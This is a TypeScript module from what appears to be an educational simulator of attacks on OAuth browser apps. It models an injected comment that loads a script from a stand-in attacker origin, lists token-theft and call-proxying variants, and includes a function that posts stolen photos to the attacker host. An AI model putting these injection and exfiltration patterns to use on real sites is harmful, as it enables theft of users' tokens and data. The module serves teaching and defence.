/** What the attacker's script does in the page: it is loaded like any other, and can do whatever the page can. */
import { EVIL_ORIGIN } from "@/lib/cast/attacked";
import { CLIENT_ORIGIN } from "@/lib/cast/cast";
import type { AttackVariant, StepContext } from "@/lib/flow/define";
import type { Move } from "@/lib/flow/move";
import { formatPairs, type Pairs } from "@/lib/http/form";
import { get, post } from "@/lib/http/message";
import { FINDS_PATH, SCRIPT_PATH } from "@/lib/parties/attacker/script-host";
import { sourceChecks } from "@/lib/parties/browser/checks/scripts";
import { fromPage } from "@/lib/parties/browser/script-call";
import { photosOf } from "@/lib/parties/client/tokens";
import { guard } from "@/lib/parties/guard";
import { recall } from "@/lib/world/world";
import { callFromPage } from "./page";
import { injectWords, proxyWords } from "./words-script";

export const variants = [
	{
		id: "token",
		name: "takes the access token",
		does: "The script takes the access token from where the page has it, and the attacker calls the API (RFC 10017 §5.1.1).",
	},
	{
		id: "refresh",
		name: "takes the refresh token",
		does: "The script takes the refresh token, and the attacker gets access tokens with it (RFC 10017 §5.2.1).",
	},
	{
		id: "call",
		name: "copies a call of the page",
		does: "The script copies the next call of the page, with its proof where there is one, and the attacker repeats it. Where a proof counts once, it keeps that call back (RFC 10017 §5.1.2).",
	},
	{
		id: "ahead",
		name: "has a proof made for later",
		does: "Where calls need a proof, the script has the page's key sign one for later, when the page is closed (RFC 9449 §11.2).",
	},
	{
		id: "silent",
		name: "asks for tokens of its own",
		does: "The script begins a flow that Ada does not see, in her session at the authorization server (RFC 10017 §5.1.3).",
	},
	{
		id: "proxy",
		name: "calls the API from the page",
		does: "The script takes no token: it makes the call in the page, as the page itself would (RFC 10017 §5.1.4).",
	},
] as const satisfies readonly AttackVariant[];

type Choice = "LOOKS" | "BEGINS_FLOW" | "CALLS";
const choices: Readonly<Record<string, Choice>> = { silent: "BEGINS_FLOW", proxy: "CALLS" };

const SCRIPT = `${EVIL_ORIGIN}${SCRIPT_PATH}`;

/** What the page says of itself in its HTML (Content Security Policy in a `meta` element). */
const policyOf = (html = ""): { readonly policy?: string } => {
	const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/i.exec(html)?.[1];
	return policy === undefined ? {} : { policy };
};

/** A comment stands below a photo, and the page writes it into itself as it is. */
export const runInPage: Move<Choice | "NOT_LOADED" | "NOTHING_RUNS"> = {
	phase: "use",
	actor: "user",
	does: "loads a script",
	text: "Somebody has written a comment with a script in it, and the page writes that into itself. The browser loads the script, if the page lets it.",
	events: {
		LOOKS: "The script runs, and looks for tokens.",
		BEGINS_FLOW: "The script runs, and begins a flow of its own.",
		CALLS: "The script runs, and calls the API.",
		NOT_LOADED: "The browser does not load the script.",
		NOTHING_RUNS: "What was loaded is no script.",
	},
	step: {
		kind: "run",
		run: async (ctx) => {
			const { page } = recall(ctx.world, "user", "browser");
			ctx.work("user", { note: "inject" }, () => ({
				result: undefined,
				facts: [{ name: "comment", text: `<script src="${SCRIPT}"></script>` }],
			}));
			const subject = { origin: CLIENT_ORIGIN, source: SCRIPT, ...policyOf(page?.html) };
			const judging = { note: "script", place: "browser" } as const;
			if (await ctx.judge("user", judging, (at) => guard(sourceChecks, subject, at))) return { type: "NOT_LOADED" };
			const { response } = await ctx.send("user", get(SCRIPT), { channel: "front", note: "script" });
			if (response.status !== 200) return { type: "NOTHING_RUNS" };
			return { type: choices[ctx.settings.variant ?? ""] ?? "LOOKS" };
		},
	},
	words: injectWords,
};

/** The script posts what it has to its own host. Any page can post a form, so the browser asks nobody. */
export const sendOut = async (ctx: StepContext, fields: Pairs): Promise<void> => {
	const request = fromPage(CLIENT_ORIGIN, post(`${EVIL_ORIGIN}${FINDS_PATH}`, formatPairs(fields)));
	await ctx.send("user", request, { channel: "front", note: "sendOut", phase: "after" });
};

/** The call of the page, made once more by another script of the page. */
export const callAsPage: Move<"READ" | "DENIED"> = {
	phase: "use",
	actor: "attacker",
	does: "receives the photos",
	text: "The script calls the API in the way in which the page does, and sends the attacker what comes back.",
	events: { READ: "The attacker has the photos.", DENIED: "No photos reach the attacker." },
	step: {
		kind: "run",
		run: async (ctx) => {
			const response = await callFromPage(ctx, "proxied");
			const photos = response && photosOf(response);
			if (photos)
				await sendOut(
					ctx,
					photos.map((photo) => ["photo", photo] as const),
				);
			return { type: recall(ctx.world, "attacker", "attacker").photos === undefined ? "DENIED" : "READ" };
		},
	},
	words: proxyWords,
};
